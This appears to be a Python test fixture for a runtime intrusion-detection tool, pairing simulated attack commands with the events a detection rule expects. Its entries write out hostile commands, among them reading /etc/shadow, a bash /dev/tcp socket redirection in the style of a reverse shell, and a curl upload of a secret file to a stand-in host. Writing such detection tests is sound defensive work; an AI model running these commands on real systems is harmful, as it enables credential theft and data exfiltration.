"""Actions for the detection examples of the book, whose rules are in book_rules.yaml."""

from __future__ import annotations

from typing import Final

from tests.live.attacks.action import Action, Place

BOOK: Final = (
    Action(
        "Program written among the system's",
        "touch /bin/surprise",
        {"fd.name": "/bin/surprise", "proc.name": "touch"},
    ),
    Action(
        "Namespace entered",
        "disguised peek nsenter --uts=/proc/self/ns/uts true",
        {"proc.name": "peek", "evt.type": "setns"},
        needs=("nsenter",),
    ),
    Action(
        "File made executable for everyone",
        ": >program; chmod a+x program",
        {"evt.arg.filename": "*program", "proc.name": "chmod", "evt.failed": "False"},
    ),
    # The kernel refuses, and the attempt is what counts.
    Action(
        "Attempt to become root",
        "as_user nobody python3 -IS /attack/tools/calls.py become 0 2>/dev/null",
        {"user.name": "nobody", "proc.name": "python3", "evt.res": "EPERM"},
    ),
    Action(
        "Account data read",
        "cat /etc/shadow >/dev/null",
        {"fd.name": "/etc/shadow", "proc.name": "cat"},
    ),
    Action(
        "Owner of a file changed",
        ": >file; call take-ownership file 65534",
        {"evt.arg.path": "*file", "proc.name": "python3"},
    ),
    Action(
        "Shell opens a connection",
        "network; listen 9105; connect $ADDRESS 9105",
        {"fd.name": "198.51.100.1:*->198.51.100.1:9105", "proc.name": "bash"},
    ),
    Action(
        "Standard stream becomes a socket",
        'network; listen 9106; exec 5<>"/dev/tcp/$ADDRESS/9106"; id <&5 >&5',
        {"fd.name": "198.51.100.1:*->198.51.100.1:9106", "proc.name": "bash"},
    ),
    Action(
        "Unwanted program run",
        "disguised nmap true",
        {"proc.name": "nmap", "container.id": "host"},
    ),
    Action(
        "File sent away",
        "disguised curl true --upload-file secret http://198.51.100.1/",
        {"proc.name": "curl", "proc.cmdline": "curl --upload-file secret http://198.51.100.1/"},
    ),
    Action(
        "Shell started in a container",
        "dash -c :",
        {"proc.name": "dash", "container.id": "????????????"},
        Place.CONTAINER,
        ("dash",),
    ),
    Action(
        "Process killed by a signal",
        "dash -c 'kill -9 $$'",
        {"proc.name": "dash", "evt.arg.sig": "*SIGKILL*"},
        needs=("dash",),
    ),
)
